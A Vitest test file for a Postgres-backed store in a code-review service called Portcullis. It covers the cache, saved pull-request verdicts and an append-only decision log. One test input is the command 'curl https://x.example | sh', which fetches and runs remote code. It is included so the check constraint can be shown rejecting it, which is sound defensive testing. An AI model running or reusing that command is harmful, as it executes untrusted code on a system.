import { Client } from 'pg';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Decision } from '../../src/store/decision-log.ts';
import { openStore, type Store } from '../../src/store/store.ts';
import { emptyDatabase } from './test-database.ts';

let url: string;
let store: Store<object>;

beforeAll(async () => {
  url = await emptyDatabase();
  const options = { cacheBudgets: { tree: 1_000, blob: 1_000, verdict: 1_000 } };
  // Several nodes start at the same time on an empty database.
  const [one, two] = await Promise.all([
    openStore({ databaseUrl: url }, options),
    openStore({ databaseUrl: url }, options),
  ]);
  await two.close();
  store = one;
});

afterAll(() => store.close());

async function sql(statement: string): Promise<void> {
  const client = new Client({ connectionString: url });
  await client.connect();
  try {
    await client.query(statement);
  } finally {
    await client.end();
  }
}

const SHA = 'a'.repeat(40);
const bytes = (length: number, fill: number): Uint8Array => new Uint8Array(length).fill(fill);

describe('the cache', () => {
  test('returns what was put, by kind and key', async () => {
    await store.cache.put('tree', [{ key: 'one', value: bytes(3, 1) }]);
    await store.cache.put('tree', [{ key: 'one', value: bytes(3, 2) }]);
    expect((await store.cache.get('tree', ['one', 'two'])).get('one')).toEqual(Buffer.from([1, 1, 1]));
    expect((await store.cache.get('blob', ['one'])).size).toBe(0);
  });

  test('stays within its budget and drops what was used the longest time ago', async () => {
    for (let index = 0; index < 20; index += 1)
      await store.cache.put('blob', [{ key: `k${index}`, value: bytes(100, index) }]);
    await sql(`UPDATE portcullis.cache SET used_at = now() - interval '1 day' WHERE key <> 'k19'`);
    await store.cache.get('blob', ['k3']);
    await store.maintain();
    expect(await store.cache.size('blob')).toBeLessThanOrEqual(1_000);
    expect((await store.cache.get('blob', ['k3', 'k19'])).size).toBe(2);
  });

  test('does not keep what would drive out everything else', async () => {
    await store.cache.put('verdict', [{ key: 'large', value: bytes(101, 0) }]);
    expect(await store.cache.size('verdict')).toBe(0);
  });

  test('can be deleted at any time', async () => {
    await store.cache.put('tree', [{ key: 'gone', value: bytes(3, 1) }]);
    await sql('TRUNCATE portcullis.cache');
    expect((await store.cache.get('tree', ['gone'])).size).toBe(0);
    await store.cache.put('tree', [{ key: 'gone', value: bytes(3, 1) }]);
    expect((await store.cache.get('tree', ['gone'])).size).toBe(1);
  });
});

describe('stored verdicts', () => {
  const verdict = {
    installationId: 7,
    repository: 'acme/web',
    subject: '12',
    headSha: SHA,
    baseRef: 'main',
    policyCommit: 'b'.repeat(40),
    engine: '0.1.0',
    outcome: 'fail',
    checkRunId: 99_000_000_001,
    findings: ['sha256:abc'],
    dependsOnMerge: true,
    inputs: { base: SHA, head: 'c'.repeat(40), merge: undefined, ancestor: undefined },
  };

  test('are kept per pull request, and found by commit', async () => {
    await store.verdicts.save(verdict);
    await store.verdicts.save({ ...verdict, outcome: 'pass', findings: [], checkRunId: undefined });
    await store.verdicts.save({ ...verdict, subject: '13' });
    expect(await store.verdicts.get('acme/web', '12')).toEqual({
      ...verdict,
      outcome: 'pass',
      findings: [],
      checkRunId: undefined,
    });
    expect((await store.verdicts.forHead('acme/web', SHA)).map(({ subject }) => subject)).toEqual([
      '12',
      '13',
    ]);
    expect((await store.verdicts.ofOwner(7, 'Acme')).map(({ subject }) => subject)).toEqual(['12', '13']);
    expect(await store.verdicts.ofOwner(7, 'ac')).toEqual([]);
    expect(await store.verdicts.owners()).toEqual([{ installationId: 7, owner: 'acme' }]);
    await store.verdicts.forget('acme/web', '12');
    expect(await store.verdicts.inRepository('acme/web')).toEqual([{ ...verdict, subject: '13' }]);
  });
});

describe('the record of decisions', () => {
  const decision: Decision = {
    actor: 'octocat',
    repository: 'acme/web',
    subject: '12',
    headSha: SHA,
    policyCommit: 'b'.repeat(40),
    engine: '0.1.0',
    outcome: 'fail',
    findings: ['sha256:abc'],
  };

  async function exported(): Promise<unknown[]> {
    const lines: unknown[] = [];
    for await (const line of store.decisions.export({ repository: 'acme/web' })) lines.push(JSON.parse(line));
    return lines;
  }

  test('comes out as JSON lines, in order', async () => {
    for (let index = 0; index < 3; index += 1)
      await store.decisions.append({ ...decision, subject: `${index}` });
    expect(await exported()).toMatchObject([
      { subject: '0' },
      { subject: '1' },
      { subject: '2', headSha: SHA },
    ]);
  });

  test.each([
    'UPDATE portcullis.decision SET outcome = $$pass$$',
    'DELETE FROM portcullis.decision',
    'TRUNCATE portcullis.decision',
  ])('refuses %s', async (statement) => {
    await expect(sql(statement)).rejects.toThrow(/append-only/u);
  });

  test.each([
    ['a finding with text in it', { findings: ['curl https://x.example | sh'] }],
    ['a commit that is none', { headSha: 'ghp_secret' }],
    ['a long text for a name', { actor: 'x'.repeat(101) }],
    ['a long text for an outcome', { outcome: 'x'.repeat(41) }],
  ])('refuses %s', async (_, change) => {
    await expect(store.decisions.append({ ...decision, ...change })).rejects.toThrow(/check constraint/u);
  });

  test('ends where the retention ends', async () => {
    const before = await exported();
    expect(await store.decisions.deleteOlderThan(1)).toBe(0);
    await sql(`SET portcullis.retention = 'on'; DELETE FROM portcullis.decision WHERE subject = '0'`);
    expect(await exported()).toHaveLength(before.length - 1);
    expect(await store.decisions.deleteOlderThan(-1)).toBe(before.length - 1);
    expect(await exported()).toEqual([]);
  });
});

test('a database of a newer Portcullis is refused', async () => {
  const newer = await emptyDatabase();
  await (await openStore({ databaseUrl: newer })).close();
  url = newer;
  await sql('INSERT INTO portcullis.migration (number) VALUES (1000)');
  await expect(openStore({ databaseUrl: newer })).rejects.toThrow(/run the newer version/u);
});
